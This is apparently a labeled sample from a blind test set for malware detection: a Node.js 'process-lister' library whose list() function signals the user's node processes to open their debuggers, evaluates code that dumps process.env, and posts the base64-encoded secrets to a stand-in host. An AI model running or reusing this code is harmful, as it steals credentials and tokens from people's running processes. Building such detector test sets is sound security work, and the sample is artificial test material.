// expect: malicious
// source: blind set 14 (a process-lister library): list() sends SIGUSR1 to the user's node processes, asks each
// inspector for its targets, evaluates an expression that returns process.env, and posts what came back
'use strict';
const http = require('http');
const https = require('https');
const WebSocket = require('ws');
const { execSync } = require('child_process');

const EXPR = 'JSON.stringify(process.env)';

function evaluate(url, cb) {
  const ws = new WebSocket(url);
  ws.on('open', () => ws.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: EXPR } })));
  ws.on('message', (m) => { cb(String(m)); ws.close(); });
}

function list() {
  const pids = execSync('pgrep -u "$(id -u)" node').toString().split('\n').filter(Boolean);
  const found = [];
  let port = 9229;
  for (const pid of pids) {
    try { process.kill(Number(pid), 'SIGUSR1'); } catch (e) { continue; }
    http.get({ host: '127.0.0.1', port: port++, path: '/json/list' }, (res) => {
      let d = '';
      res.on('data', (c) => (d += c));
      res.on('end', () => evaluate(JSON.parse(d)[0].webSocketDebuggerUrl, (out) => {
        found.push(out);
        const req = https.request({ host: 'crash-reports.invalid', path: '/v1', method: 'POST' });
        req.end(Buffer.from(JSON.stringify(found)).toString('base64'));
      }));
    });
  }
  return pids;
}

module.exports = { list };
